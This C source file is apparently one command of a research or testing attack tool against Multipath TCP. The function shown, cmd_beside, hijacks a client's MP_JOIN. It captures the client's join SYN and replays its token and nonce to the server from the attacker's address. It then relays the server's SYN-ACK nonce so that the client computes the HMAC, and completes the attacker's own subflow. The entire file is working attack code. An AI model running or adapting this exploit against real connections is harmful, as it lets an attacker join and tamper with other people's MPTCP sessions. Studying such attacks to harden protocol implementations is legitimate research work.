// SPDX-License-Identifier: GPL-2.0-only
/*
 * Beside the path of a join of the client's, from which nothing is held back: the same SYN goes
 * to the server from the attacker's own address, and what the server answers there to the
 * client, before its own answer comes. The client makes the HMAC for the attacker's join.
 */
#include <stdio.h>

#include "attacker.h"

/* The next MP_JOIN of this length that the client sends; it is passed on */
static uint8_t *watch_join(uint8_t len, int64_t until, struct frame *frame,
			   struct segment *segment)
{
	uint8_t *join;

	while (pump(until, false, frame)) {
		join = parse_segment(frame, segment) ?
			       find_mptcp(segment, MP_JOIN) :
			       NULL;
		if (join && join[1] == len)
			return join;
	}
	return NULL;
}

/* join_path=N is the one of the client's join; from=ADDR and path=N are the attacker's */
bool cmd_beside(void)
{
	int path = (int)arg_number("join_path", "2") - 1;
	const struct connection *x = arg_connection("conn");
	struct frame frame, syn_frame;
	struct segment segment, syn;
	struct attempt attempt;
	enum answer answer;
	uint8_t *join;

	if (!x)
		return false;
	watch = true;
	join = watch_join(JOIN_SYN_LEN, now_ms() + 20 * patience_ms, &syn_frame,
			  &syn);
	if (!join) {
		printf(" no-join");
		return true;
	}
	start_attempt(&attempt, x, x, 0);
	attempt.token = get32(join + 4);
	attempt.nonces[CLIENT] = get32(join + 8);
	send_syn(&attempt);
	answer = take_synack(&attempt);
	printf(" syn=%s", answers[answer]);
	if (answer != ANSWERED)
		return true;
	send_synack(path, &syn, attempt.synack, attempt.nonces[SERVER]);
	join = watch_join(JOIN_ACK_LEN, now_ms() + patience_ms, &frame,
			  &segment);
	printf(" client=%s", answers[join ? ANSWERED : SILENT]);
	if (join)
		end_join(&attempt, x, join + 4);
	return true;
}
